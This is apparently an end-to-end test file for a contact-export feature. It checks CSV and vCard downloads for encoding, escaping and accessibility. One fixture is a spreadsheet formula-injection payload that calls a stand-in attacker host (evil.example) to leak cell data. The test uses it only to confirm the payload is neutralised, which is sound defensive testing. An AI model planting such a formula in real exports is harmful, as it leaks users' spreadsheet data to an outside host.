/**
 * The contact export through the real dashboard: contacts restored from a
 * backup, then "Export CSV" and "Export vCard" on the Data view, each caught
 * as a browser download and read back: accents and CJK intact (UTF-8, BOM for
 * the CSV), a formula-looking name neutralised in the CSV and escaped as
 * vCard text. Axe finds no serious or critical problems, in light or dark mode.
 */
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seriousAxeProblems } from './axe';
import { importBackupThroughDashboard, launchWithExtension, snap, type ExtensionSession } from './harness';
import { writeBackup } from './overlay-helpers';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

async function download(page: Page, button: string): Promise<{ name: string; bytes: Buffer }> {
  const section = page.getByRole('region', { name: 'Export contacts' });
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    section.getByRole('button', { name: button }).click(),
  ]);
  const path = await file.path();
  return { name: file.suggestedFilename(), bytes: readFileSync(path) };
}

describe('contact export: CSV and vCard downloads from the dashboard', () => {
  let session: ExtensionSession;
  let dashboard: Page;
  beforeAll(async () => {
    session = await launchWithExtension();
    const backup = writeBackup([
      {
        id: 'p-jose',
        name: 'José Núñez',
        levelId: 'customer',
        emails: ['jose@acme.example'],
        linkedinSlugs: ['jose-nunez'],
      },
      { id: 'p-formula', name: FORMULA, levelId: 'prospect' },
      { id: 'p-wang', name: '王小明', levelId: 'prospect' },
    ]);
    dashboard = await importBackupThroughDashboard(session, backup);
    await dashboard.goto(session.pageUrl('dashboard.html#/data'));
    await dashboard.getByRole('region', { name: 'Export contacts' }).waitFor();
  });
  afterAll(() => session?.close());

  it('downloads a CSV: BOM, header, accents and CJK intact, the formula neutralised', async () => {
    const button = dashboard.getByRole('button', { name: 'Export CSV' });
    await expect(button.isEnabled()).resolves.toBe(true);
    const file = await download(dashboard, 'Export CSV');
    expect(file.name).toMatch(/^rapport-contacts-\d{4}-\d{2}-\d{2}\.csv$/);
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = file.bytes.subarray(3).toString('utf8').split('\r\n');
    expect(lines[0]).toMatch(/^Name,Emails,LinkedIn URLs,Account,Account revenue,Account potential,Level,/);
    expect(lines.find((line) => line.startsWith('José Núñez,'))).toMatch(
      /^José Núñez,jose@acme\.example,https:\/\/www\.linkedin\.com\/in\/jose-nunez\/,,,,Customer,/,
    );
    // The cell starts with a quote inside the CSV quoting: "'=HYPERLINK(""http://…"
    expect(
      lines.some((line) => line.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`)),
    ).toBe(true);
    expect(lines.some((line) => line.startsWith('王小明,'))).toBe(true);
    await dashboard
      .getByRole('status')
      .filter({ hasText: `Exported 3 contacts to ${file.name}.` })
      .waitFor();
    await snap(dashboard, 'export-1-csv');
    expect(await seriousAxeProblems(dashboard, ['light', 'dark'])).toEqual([]);
  });

  it('downloads one vCard 4.0 file with every contact', async () => {
    const file = await download(dashboard, 'Export vCard');
    expect(file.name).toMatch(/^rapport-contacts-\d{4}-\d{2}-\d{2}\.vcf$/);
    const text = file.bytes.toString('utf8');
    expect(text.match(/^BEGIN:VCARD\r\nVERSION:4\.0\r\n/gm)).toHaveLength(3);
    expect(text).toContain('\r\nFN:José Núñez\r\nN:Núñez;José;;;\r\nEMAIL:jose@acme.example\r\n');
    expect(text).toContain('\r\nURL:https://www.linkedin.com/in/jose-nunez/\r\n');
    expect(text).toContain('\r\nFN:=HYPERLINK("http://evil.example/?"&A1\\,"Click")\r\n');
    expect(text).toContain('\r\nFN:王小明\r\n');
    expect(text.endsWith('END:VCARD\r\n')).toBe(true);
    await dashboard
      .getByRole('status')
      .filter({ hasText: `Exported 3 contacts to ${file.name}.` })
      .waitFor();
    await snap(dashboard, 'export-2-vcard');
  });
});
